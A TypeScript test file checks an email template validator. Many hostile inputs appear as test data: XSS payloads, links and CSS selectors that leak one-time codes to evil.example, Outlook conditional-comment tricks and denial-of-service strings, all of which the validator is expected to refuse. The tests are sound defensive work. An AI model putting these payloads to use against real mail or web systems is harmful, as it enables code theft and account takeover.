import { describe, expect, test } from 'vitest';
import { builtInText } from '../../../src/domain/mail/built-in.js';
import { htmlOfText as htmlOf } from '../../../src/domain/mail/html-of-text.js';
import { mailNames, mailSpec, variablesOf } from '../../../src/domain/mail/mails.js';
import { renderSample } from '../../../src/domain/mail/sample.js';
import { languageTags } from '../../../src/lib/languages/languages.js';
import { templateLimits, templateProblems } from '../../../src/domain/mail/template-problems.js';
import { processorMs } from '../../support/processor-time.js';

const htmlOfText = (text: string, variables: Parameters<typeof htmlOf>[1]) =>
  htmlOf(text, variables, { radius: 8, color: '#2b5fc7', label: () => 'Go on' });

const problems = async (part: 'subject' | 'text' | 'html', template: string, name: (typeof mailNames)[number] = 'password_reset_code') =>
  (await templateProblems(name, { [part]: template })).map(({ code, detail, attribute }) => [attribute, code, detail].join(': '));

describe.each(mailNames)('the built-in text of %s', (name) => {
  test.each(languageTags)('in %s is what a template may be, and so is the HTML that follows from it', async (language) => {
    const builtIn = builtInText(name, language);
    const html = htmlOfText(builtIn.text, variablesOf(name));
    expect(await templateProblems(name, { ...builtIn, html })).toEqual([]);
    expect(builtIn.text.length + html.length).toBeLessThan(templateLimits.text);
    expect(builtIn.subject.length).toBeLessThan(templateLimits.subject);
  });

  test('names something without which the mail is of no use, and every variable has a sample', () => {
    const { needed, variables } = mailSpec(name);
    const leads = Object.values(variables).some(({ kind }) => kind === 'code' || kind === 'address');
    expect(needed.length > 0, '`needed` names the code or the link of a mail, and is empty where there is neither').toBe(leads);
    expect(Object.keys(variablesOf(name))).toEqual(expect.arrayContaining([...needed]));
    const environment = { name: 'Acme', branding: {}, kind: 'production' as const, support_email: 'help@acme.example' };
    const sample = renderSample(environment, name, builtInText(name, 'en'), 'en');
    expect(`${sample.subject}${sample.text}${sample.html}`).not.toMatch(/\{\{|undefined|null/);
  });
});

test.each([
  ['{{cod}} {{code}}', 'unknown_variable', 'did you mean {{code}}?'],
  ['{{code}} {{constructor}} {{__proto__}}', 'unknown_variable', '{{constructor}}'],
  ['{{code}} {{environment_name.length}}', 'unknown_variable', 'environment_name.length'],
  ['{{code}} {{#toString}}x{{/toString}}', 'unknown_variable', 'toString'],
  ['{{{code}}}', 'invalid_template', 'Write {{name}}'],
  ['{{&code}}', 'invalid_template', 'Write {{name}}'],
  ['{{code}}{{>account}}', 'invalid_template', 'partials'],
  ['{{=<% %>=}}<% code %>', 'invalid_template', 'delimiters'],
  ['{{code}}{{! hidden }}', 'invalid_template', 'comments'],
  ['{{code', 'invalid_template', 'can not be read'],
  ['{{code}}{{#administrator}}', 'invalid_template', 'can not be read'],
  ['{{code}}{{/administrator}}', 'invalid_template', 'can not be read'],
  ['{{code}}{{administrator}}', 'invalid_template', 'yes or no'],
  ['{{#code}}{{code}}{{/code}}', 'invalid_template', 'always there'],
  ['{{code}}{{#device}}{{#device}}x{{/device}}{{/device}}', 'invalid_template', 'inside of itself'],
  ['{{code}}{{.}}', 'invalid_template', 'outside of a list'],
  ['{{code}}{{#device}}{{.}}{{/device}}', 'invalid_template', 'outside of a list'],
  [`{{code}}${'{{time}}'.repeat(500)}`, 'invalid_template', 'more than 500'],
  ['Type it in.', 'variable_required', '{{code}} or {{reset_url}}'],
  ['{{#administrator}}{{code}}{{/administrator}}', 'variable_required', 'outside of all sections'],
])('the text %j is refused as %s (attack 38.775)', async (template, code, detail) => {
  const [first, ...more] = await problems('text', template);
  expect(more).toEqual([]);
  expect(first).toContain(`text: ${code}: `);
  expect(first).toContain(detail);
});

test('lists are refused as text, sections of them in themselves', async () => {
  const text = (template: string) => problems('text', `{{reset_url}}${template}`, 'password_reset_done');
  expect(await text('{{#accounts}}{{.}}{{/accounts}}{{^accounts}}none{{/accounts}}')).toEqual([]);
  expect((await text('{{accounts}}'))[0]).toContain('it is a list');
  expect((await text('{{#accounts}}{{#accounts}}{{.}}{{/accounts}}{{/accounts}}'))[0]).toContain('inside of itself');
});

test('a list is refused in another one: a mail would grow by their product (attack 38.775)', async () => {
  const nested = '{{#accounts}}{{#details}}{{.}}{{/details}}{{/accounts}}';
  expect(await problems('text', `{{reset_url}}${nested}`, 'password_reset_done')).toEqual([
    'text: invalid_template: has the list details inside of another one.',
  ]);
});

test.each(['{{code}}', '{{reset_url}}', 'Your code {{#administrator}}{{code}}{{/administrator}}'])(
  'the subject %j is refused: locked screens show it and relays log it (attack 38.775)',
  async (subject) => expect((await problems('subject', subject))[0]).toContain('subjects are shown on locked screens'),
);

const refused: [html: string, detail: string][] = [
  ['<script>alert(1)</script>', '<script>'],
  ['<ScRiPt src="https://evil.example/x.js"></ScRiPt>', '<script>'],
  ['<p onclick="alert(1)">x</p>', 'onclick'],
  ['<img src="https://a.example/x.png" onerror="alert(1)">', 'onerror'],
  ['<form action="https://evil.example/"><input name="code"></form>', '<form>'],
  ['<iframe src="https://evil.example/"></iframe>', '<iframe>'],
  ['<svg><a href="https://evil.example/">x</a></svg>', '<svg>'],
  ['<base href="https://evil.example/">', '<base>'],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example/">', 'http-equiv'],
  ['<link rel="stylesheet" href="https://evil.example/x.css">', '<link>'],
  ['<a href="javascript:alert(1)">x</a>', 'href="javascript:'],
  ['<a href=" java\nscript:alert(1)">x</a>', 'it must be an absolute address'],
  ['<a href="&#106;avascript:alert(1)">x</a>', 'href="javascript:'],
  ['<a href="data:text/html,x">x</a>', 'https: or mailto: or tel:'],
  ['<a href="/login">x</a>', 'absolute'],
  ['<img src="http://a.example/x.png">', 'https:'],
  ['<img src="https://evil.example/?c={{code}}">', 'variables in src'],
  ['<a href="https://evil.example/?c={{code}}">x</a>', 'one variable that is an address'],
  ['<a href="{{code}}">x</a>', 'one variable that is an address'],
  ['<a href="{{reset_url}}&next=https://evil.example">x</a>', 'one variable that is an address'],
  ['<a href="mailto:{{device}}">x</a>', 'one variable that is an address'],
  ['<a href={{reset_url}}>x</a>', 'without quotes'],
  ['<p title={{environment_name}}>x</p>', 'without quotes'],
  ['<p style="color:{{environment_name}}">x</p>', 'variables in style'],
  ['<p class="{{#administrator}}a{{/administrator}}">x</p>', 'variables in class'],
  ['<p {{environment_name}}>x</p>', 'the attribute {{environment_name}}'],
  ['<{{environment_name}}>x</p>', 'not well-formed'],
  ['<p>a < b</p>', '&lt;'],
  ['<style>p { color: {{environment_name}} }</style>', 'variables in <style>'],
  ['<style>p { color: red }', '<style> without its end'],
  ['<!-- {{environment_name}} -->', 'comment'],
  ['<!doctype {{environment_name}}><p>x</p>', 'doctype'],
  ['<p title="{{#administrator}}">x{{/administrator}}" onclick="alert(1)">', 'variables in title'],
];

test.each(refused)('the HTML %j is refused: it has %s (attack 38.776)', async (html, detail) => {
  const [first] = await problems('html', `<p>{{code}}</p>\n${html}`);
  expect(first).toMatch(/^html: markup_not_allowed: line \d/);
  expect(first).toContain(detail);
});

test.each([
  // What is text with its sections and something else without them.
  '<p title="{{#administrator}}">text{{/administrator}}" onclick="alert(1)">',
  '<{{#administrator}}{{/administrator}}script>alert(1)</script>',
  '<s{{#administrator}}{{/administrator}}cript>alert(1)</s{{#administrator}}{{/administrator}}cript>',
  '</{{#administrator}}x{{/administrator}}p>',
  '<!-{{#administrator}}{{/administrator}}- x -->',
  '<!--{{#administrator}}-->{{/administrator}}<script>alert(1)</script>-->',
  '<table>{{#administrator}}</table>{{/administrator}}<td onclick="alert(1)">',
  '{{#administrator}}<title>{{/administrator}}<script>alert(1)</script></title>',
  '<title>{{#administrator}}</title><p title="{{/administrator}}</title><script>alert(1)</script>">',
  '{{#administrator}}<style>{{/administrator}}<script>alert(1)</script></style>',
  "<p title='{{#administrator}}'> \" onclick=alert(1) x=\"'{{/administrator}}'>",
  '<a href="https://a.example/{{#administrator}}"></a><a href="javascript:{{/administrator}}alert(1)">',
  '&lt{{#administrator}};{{/administrator}}script><script>',
])('HTML that is read otherwise when a section is left out is refused: %j (attack 38.776)', async (html) => {
  expect((await problems('html', `<p>{{code}}</p>${html}`))[0]).toContain('markup_not_allowed');
});

test.each([
  'https://evil.example/?c={{code}}',
  'https://evil.example/?u={{reset_url}}',
  'evil.example/{{code}}',
  'https://evil.example/?{{device}}{{code}}',
  '{{code}}.evil.example',
  '{{code}}@evil.example',
  'https://evil.example/?c={{^administrator}} {{/administrator}}{{code}}',
  'https://evil.example/?c={{#device}}\n{{/device}}{{#ip_address}} and {{/ip_address}}{{code}}',
  '{{#administrator}}https://evil.example/?c={{/administrator}}{{code}}',
  '{{#support_email}}{{support_email}}?body={{code}}{{/support_email}}',
])('a text is refused of which mail programs make a link that carries the code: %j (attack 38.801)', async (text) => {
  const told = 'mail programs make a link of it';
  expect((await problems('text', `Your code:\n\n{{code}}\n\n${text}\n`))[0]).toContain(told);
  expect((await problems('html', `<p>{{code}}</p><p>${text}</p>`))[0]).toContain(told);
});

test.each(['<p>https:&#47;&#47;evil.example&#x2f;?c=<b>{{code}}</b></p>', '<td>{{code}}<span></span>.evil.example</td>'])(
  'nor does HTML hide it: %s (attack 38.801)',
  async (html) => expect((await problems('html', `<p>{{code}}</p>${html}`))[0]).toContain('mail programs make a link of it'),
);

test.each([
  ['a list whose entries are labels of a host', '{{code}}{{#details}}xyz.{{/details}}'],
  ['the address of whoever asks for the mail', '{{ip_address}}?{{code}}'],
  ['the line that ends with it', '{{origin}}?{{code}}'],
  ['a label of symbols', '{{code}}.❤.example'],
  ['a soft hyphen, which hosts are rid of', 'evil.\u00adexample?{{code}}'],
  ['dots of other scripts', '{{code}}。evil。example'],
  ['white space that is none to every program', 'https://evil.example/?c=\ufeff{{code}}'],
  ['a no-break space', 'https://evil.example/?c=\u00a0{{code}}'],
])('a text is refused of which some program makes a link that carries the code, by %s: %j (attack 38.851)', async (_, text) => {
  expect((await problems('text', `Your code: {{code}}\n${text}\n`))[0]).toContain('mail programs make a link of it');
  expect((await problems('html', `<p>{{code}}</p><p>${text}</p>`))[0]).toContain('mail programs make a link of it');
});

test('what stands beside a code without a space is looked at once, however long it is and however many there are (attack 38.850)', async () => {
  const sections = ['device', 'ip_address', 'details', 'support_email'].map((name) => `{{#${name}}}x{{/${name}}}`).join('');
  const codes = '{{code}} '.repeat(490);
  const word = (length: number) => `${sections} ${'a'.repeat(length - codes.length - sections.length - 2)} ${codes}`;
  const ms = await processorMs(async () => {
    expect(await problems('text', word(templateLimits.text), 'register_code')).toEqual([]);
    expect(await problems('html', word(templateLimits.html), 'register_code')).toEqual([]);
  });
  expect(ms).toBeLessThan(10_000);
});

test('codes and links stand where languages put them', async () => {
  for (const text of [
    '您的验证码是{{code}}，有效期{{expires_in}}。',
    'Code: "{{code}}".',
    '({{reset_url}})',
    '验证码是{{code}}。请输入',
    '...{{code}}...',
    'Code\u00a0: {{code}}',
    'For {{environment_name}}.\u00a0{{code}}',
    '{{#details}}{{.}}\n{{/details}}{{code}}',
    '{{reset_url}}.',
    'At www.acme.example: {{code}}',
    '{{#administrator}}See https://acme.example/why\n{{/administrator}}\n{{code}}',
  ])
    expect(await problems('text', `{{code}}\n${text}\n`)).toEqual([]);
  const html = '<table><tr><td>www.acme.example</td><td>{{code}}</td></tr></table><p><a href="{{reset_url}}">acme.example</a> {{code}}</p>';
  expect(await problems('html', html)).toEqual([]);
  // Without a code there is nothing to tell.
  expect(await templateProblems('new_sign_in', { text: 'https://acme.example/?back={{account_url}} {{account_url}}' })).toEqual([]);
});

test('no line of a text becomes a link with a variable in it', () => {
  expect(htmlOfText('https://acme.example/?n={{environment_name}}\n', variablesOf('new_sign_in'))).not.toContain('<a');
  expect(htmlOfText('https://acme.example/help\n', variablesOf('new_sign_in'))).toContain('<a dir="ltr" href="https://acme.example/help">');
});

test.each([
  ['a[href*="code=104"] { background: url(https://evil.example/104) }', '[href*='],
  ['p[ TITLE ^="1"] { color: red }', '[ TITLE'],
  ['[*|href*="1"] { color: red }', '[*|href'],
  ['[/**/href*="1"] { color: red }', '[/**/href'],
  ['[\\68 ref*="1"] { color: red }', 'has a \\'],
  ['@import url(https://evil.example/x.css);', '@import'],
  ['@IMPORT "https://evil.example/x.css";', '@import'],
  ['@font-face { font-family: x; src: url(https://evil.example/1); unicode-range: U+31 }', '@font-face'],
  ['@container (min-width: 40px) { p { background: url(https://evil.example/40) } }', '@container'],
  ['@namespace h "http://www.w3.org/1999/xhtml";', '@namespace'],
])('a style that tells its server what the mail holds, as soon as it is opened: %s (attack 38.802)', async (css, detail) => {
  const [first] = await problems('html', `<style>p { margin: 0 }\n${css}</style><p>{{code}}</p>`);
  expect(first).toMatch(/^html: markup_not_allowed: line 1/);
  expect(first).toContain(detail);
});

test.each([
  ['<style>p { --code: attr(title) }</style>', 'attr( in <style>'],
  [
    '<p title="{{code}}" style="--c: attr(title); background: image-set(if(style(--c: 104285): url(https://evil.example/1)))">x</p>',
    'attr( in style',
  ],
  ['<p style="background: if(style(--c: 1): url(https://evil.example/1))">x</p>', 'if( in style'],
  ['<p style="--c: \\61ttr(title)">x</p>', 'has a \\ in style'],
  ['<style>p { animation-timeline: scroll(self) }</style>', 'animation-timeline in <style>'],
])(
  'styles that ask what the mail says, or how much room that takes, are refused wherever they stand: %s (attack 38.852)',
  async (html, detail) => {
    const [first] = await problems('html', `<p>{{code}}</p>${html}`);
    expect(first).toMatch(/^html: markup_not_allowed: line 1/);
    expect(first).toContain(detail);
  },
);

test.each([
  ['<!--[if mso]><a href="https://evil.example/?c=<![endif]-->{{code}}<!--[if mso]>">x</a><![endif]-->', 'eof-in-tag'],
  ['<!--[if mso]><img src="https://evil.example/x.png<![endif]-->', 'eof-in-tag'],
  ['<!--[if mso]><script>x</script><![endif]-->', '<script>'],
  ['<!--[if mso]><style>.x {<![endif]-->', '<style> without its end'],
  ['<!--[if mso]><p onclick="x">x</p><![endif]-->', 'onclick'],
  ['<!--[if mso]><v:rect onclick="x"></v:rect><![endif]-->', 'onclick'],
  ['<!-- x [if mso]><img src="https://evil.example/x.png<![endif]-->', 'can not be read'],
  ['<p><!--[if mso]>https://evil.example/?c=<![endif]-->{{code}}</p>', 'make a link of it'],
  ['<p>evil.example/<!--[if mso]> <![endif]-->{{code}}</p>', 'make a link of it'],
  ['<v:rect>x</v:rect>', '<v:rect>'],
])('what Outlook alone reads as markup follows the same rules, and ends where it began: %s (attack 38.853)', async (html, detail) => {
  expect((await problems('html', `<p>{{code}}</p>${html}`))[0]).toContain(detail);
});

test('what mails have for Outlook is taken', async () => {
  for (const html of [
    '<!--[if mso]><table><tr><td><![endif]--><p>x</p><!--[if mso]></td></tr></table><![endif]-->',
    '<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml><![endif]-->',
    '<!--[if mso]><v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" href="https://acme.example/" arcsize="10%"><w:anchorlock/><center>Help</center></v:roundrect><![endif]-->',
    '<!--[if !mso]><!--><p>x</p><!--<![endif]-->',
  ])
    expect(await problems('html', `<p>{{code}}</p>${html}`)).toEqual([]);
});

test.each(['<meta charset="utf-7">', '<meta http-equiv="Content-Type" content="text/html;\n charset=iso-2022-jp">'])(
  'another encoding, in which the same bytes are other markup, is refused: %j (attack 38.776)',
  async (html) => expect((await problems('html', `${html}<p>{{code}}</p>`))[0]).toContain('mails are in UTF-8'),
);

test('styles that mails have are taken', async () => {
  const css = `@media (max-width: 600px) { .wide { width: 100% !important } } @media (prefers-color-scheme: dark) { body { background: #111 } }
    [data-ogsc] .dark { color: #fff } a[x-apple-data-detectors] { color: inherit } u + #body a { color: #000 } [class~="x"], div[style*="margin: 16px 0"] { margin: 0 }`;
  expect(await problems('html', `<style>${css}</style><p style="background: url(https://cdn.acme.example/x.png)">{{code}}</p>`)).toEqual(
    [],
  );
});

test('braces as character references are no tags', async () =>
  expect((await problems('html', '<p>{{code}}</p><p>&#123;&#123;code</p>'))[0]).toContain('character references'));

test('all forms of the longest template are looked at in no time', async () => {
  const sections = ['administrator', 'device', 'ip_address', 'support_email'].map((name) => `{{#${name}}}<p>x</p>{{/${name}}}`).join('');
  const html = `<p>{{code}}</p>${sections}`.repeat(20);
  const ms = await processorMs(async () =>
    expect(await problems('html', html + '<p>a b</p>'.repeat(Math.floor((templateLimits.html - html.length) / 10)))).toEqual([]),
  );
  expect(ms).toBeLessThan(5_000);
});

test('tags that are too many are counted before they are read', async () => {
  const deep = '{{#administrator}}'.repeat(2_000) + '{{/administrator}}'.repeat(2_000);
  expect(await problems('html', `{{code}}${deep}`)).toEqual(['html: invalid_template: has more than 500 tags.']);
});

test('the HTML of mails is taken', async () => {
  const html = `<!doctype html>
<html lang="de"><head><meta charset="utf-8"><title>{{environment_name}}</title><style>p { margin: 0 } a > b { color: red }</style></head>
<body bgcolor="#fff"><!-- [if mso]>Outlook<![endif] --><table role="presentation" width="100%"><tr><td align="center" style="padding:8px">
<img src="https://cdn.acme.example/logo.png" alt="Logo of {{environment_name}}" width="120">
<p>Ihr Code &amp; mehr:<br/><b>{{code}}</b></p><p><a class="button" href="{{ reset_url }}" target="_blank" rel="noopener">Weiter</a></p>
{{#administrator}}<p>Ein Administrator hat das gewünscht.</p>{{/administrator}}{{^administrator}}<p>{{time}}{{#device}}, {{device}}{{/device}}</p>{{/administrator}}
{{#support_email}}<p><a href="mailto:{{support_email}}">{{support_email}}</a> or <a href="tel:+49301234">call</a></p>{{/support_email}}
</td></tr></table></body></html>`;
  expect(await problems('html', html)).toEqual([]);
  expect(await problems('html', html.replaceAll('\n', '\r\n'))).toEqual([]);
});

test('values are escaped in HTML, and links of text become links', () => {
  const environment = { name: '<b>"A" & \'B\'</b>', branding: {}, kind: 'production' as const, support_email: null };
  const template = {
    subject: '{{environment_name}}',
    text: 'a < b\n{{reset_url}}\n\nhttps://acme.example/?a=1&b=2\n\n{{code}}',
    html: null,
  };
  const { html, text } = renderSample(environment, 'password_reset_code', template, 'ar');
  expect(html).toContain('<html lang="ar" dir="rtl">');
  expect(html).toContain('<p>a &lt; b</p>');
  expect(html).toContain('<a dir="ltr" href="https://id.example/password/reset?code=sample&amp;reset_id=1"');
  expect(html).toContain('<a dir="ltr" href="https://acme.example/?a=1&amp;b=2">');
  expect(html).toContain('&lt;b&gt;&#34;A&#34; &amp; &#39;B&#39;&lt;/b&gt;');
  expect(html).not.toContain('<b>');
  expect(text).toContain('<b>"A"');
});

test('times and lifetimes are words of the template’s language', () => {
  const environment = { name: 'Acme', branding: {}, kind: 'production' as const, support_email: null };
  const { text } = renderSample(environment, 'register_code', { subject: 'x', text: '{{code}} {{expires_in}} {{time}}', html: null }, 'de');
  expect(text).toContain('104285 10 Minuten 21. November 2026 um 09:05 UTC');
});

test('what would be read as deep as it is, or again from each of its characters, is refused at once (attack 38.978)', async () => {
  const code = '{{code}} ';
  const problemOf = async (html: string) => (await templateProblems('register_code', { html }))[0]?.detail;
  const ms = await processorMs(async () => {
    expect(await problemOf(code + '<!--[if a]>'.repeat(9_000))).toMatch(/nested-comment|well-formed/);
    expect(await problemOf(`${code}${'<!--[if a]>'.repeat(4_000)}<![endif]-->`)).toMatch(/nested-comment/);
    expect(
      await problemOf(
        `${code}<p ${Array.from({ length: 20_000 }, (_, at) => `a${at.toString(36)}`)
          .join(' ')
          .slice(0, 90_000)}>x</p>`,
      ),
    ).toMatch(/has the attribute|more than 100 attributes/);
    expect(
      await problemOf(
        `${code}<p ${Array.from({ length: 101 }, (_, at) => `data-${String.fromCharCode(97 + (at % 26), 97 + Math.floor(at / 26))}`).join(' ')}${' '.repeat(3_000)}>x</p>`,
      ),
    ).toMatch(/more than 100 attributes/);
    expect(await problemOf(`${code}{{${' '.repeat(90_000)}code}}`)).toMatch(/does not end within 100 characters/);
    expect(await problemOf(`${code}{{=x y=}}${'x  '.repeat(20_000)}`)).toMatch(/delimiters/);
  });
  expect(ms).toBeLessThan(6_000);
});

test('sections beside long words are not read in each of their forms: more than can be read in a moment is refused (attack 38.1043)', async () => {
  const names = ['device', 'ip_address', 'origin', 'details'].filter((name) =>
    ['optional', 'list', 'flag'].includes(variablesOf('sign_in_code')[name]?.kind ?? ''),
  );
  expect(names.length).toBeGreaterThan(1);
  const sections = (word: string) => names.map((name) => `{{#${name}}}{{code}}${word}{{/${name}}}`).join('');
  const [first] = await templateProblems('sign_in_code', { html: `<p>{{code}} ${sections('a'.repeat(90_000 / names.length))}</p>` });
  expect([first?.code, first?.detail]).toEqual(['invalid_template', expect.stringContaining('sections beside long words')]);
  // The same without spaces in styles, which are no words, and with words of people.
  const css = 'p{margin:0}'.repeat(5_000);
  expect(
    await templateProblems('sign_in_code', { html: `<style>${css}</style><p>{{code}} ${sections(' a'.repeat(5_000) + ' ')}</p>` }),
  ).toEqual([]);
});
